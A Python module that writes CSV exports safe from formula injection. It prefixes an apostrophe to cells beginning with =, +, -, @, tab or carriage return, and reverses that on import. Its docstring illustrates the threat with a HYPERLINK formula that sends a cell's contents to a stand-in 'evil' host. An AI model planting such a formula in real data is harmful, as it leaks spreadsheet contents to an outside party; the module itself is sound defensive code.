"""CSV files that spreadsheets open safely: the one writer of our CSV exports and the rule our import reverses.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula (or becomes one) in Excel,
LibreOffice and Google Sheets: an attendee named `=HYPERLINK("http://evil/?"&A1, "click")` would run on the
organizer's machine. Such a cell is written with one more apostrophe in front, which spreadsheets show as text
(so are cells that already start with apostrophes before one of those characters, so that the rule reverses
exactly). Importing our own attendee CSV drops that one apostrophe again, and only there: `'=x` → `=x`,
`''=x` → `'=x`; `'abc` stays `'abc`.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable

TRIGGERS = "=+-@\t\r"
_GUARDED = re.compile(r"'*[=+\-@\t\r]")  # what `guard` prefixes; `unguard` drops the prefix of the same shape
_UNGUARD = re.compile(r"'+[=+\-@\t\r]")


def guard(value: object) -> str:
    """The cell text a spreadsheet shows as text, never runs."""
    text = "" if value is None else str(value)
    return "'" + text if _GUARDED.match(text) else text


def unguard(text: str) -> str:
    """What `guard` was given: drops the apostrophe it added, and no other."""
    return text[1:] if _UNGUARD.match(text) else text


class GuardedWriter:
    """csv.writer's writerow with every cell guarded."""

    def __init__(self, out: io.StringIO) -> None:
        self._writer = csv.writer(out)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([guard(c) for c in row])


def rows_to_csv(header: Iterable[object], rows: Iterable[Iterable[object]]) -> str:
    """A whole CSV file with every cell guarded (the header too)."""
    out = io.StringIO()
    writer = GuardedWriter(out)
    writer.writerow(header)
    for row in rows:
        writer.writerow(row)
    return out.getvalue()
